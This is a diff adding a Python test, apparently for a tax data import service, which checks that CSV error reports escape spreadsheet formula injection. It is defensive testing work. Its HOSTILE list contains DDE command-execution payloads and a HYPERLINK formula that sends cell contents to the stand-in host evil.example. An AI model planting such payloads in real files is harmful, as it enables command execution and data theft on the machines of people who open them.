@@ -501,3 +501,34 @@ def test_two_overlapping_imports_at_once_leave_no_duplicate(fresh_databases: lis
     assert total == distinct == 88_200
     assert sum(stored for stored, _ in outcomes) == 88_200
     assert sum(duplicate for _, duplicate in outcomes) == 29_400
+
+
+HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0",
+           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def test_the_error_report_never_hands_a_formula_to_a_spreadsheet_on_either_route(
+        session: Session, world: World, client: TestClient) -> None:
+    # Each hostile text as a tax kind (refused: not a known kind), one with a negative amount besides.
+    rows = [payment(f"V{n}", kind=value) for n, value in enumerate(HOSTILE)]
+    rows.append(payment("V-NEG", amount="-2,000.50"))
+    batch = run(session, world, csv_bytes(rows))
+    session.commit()
+    from tests.integration.conftest import login
+
+    login(client, "tax.officer")
+    for route in (f"/api/v1/credit-data/batches/{batch.id}/errors.csv", f"/data/batches/{batch.id}/errors.csv"):
+        headers = _token(session, world.tax_org) if route.startswith("/api/") else {}
+        response = client.get(route, headers=headers)
+        assert response.status_code == 200, response.text
+        got = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
+        assert [row[3] for row in got[1:-1]] == ["'" + value for value in HOSTILE], route
+        cells = [cell for row in got for cell in row]
+        assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")], route
+        # A negative amount stays the number it is; the report goes back in with the values they were.
+        assert got[-1][1] == "V-NEG" and got[-1][4] == "-2,000.50", route
+    again = run(session, world, response.content)
+    assert again.rows_rejected == len(HOSTILE) + 1
+    originals = [error.original[3] for error in session.scalars(
+        select(ImportRowError).where(ImportRowError.batch_id == again.id).order_by(ImportRowError.row_number))]
+    assert originals[:len(HOSTILE)] == HOSTILE
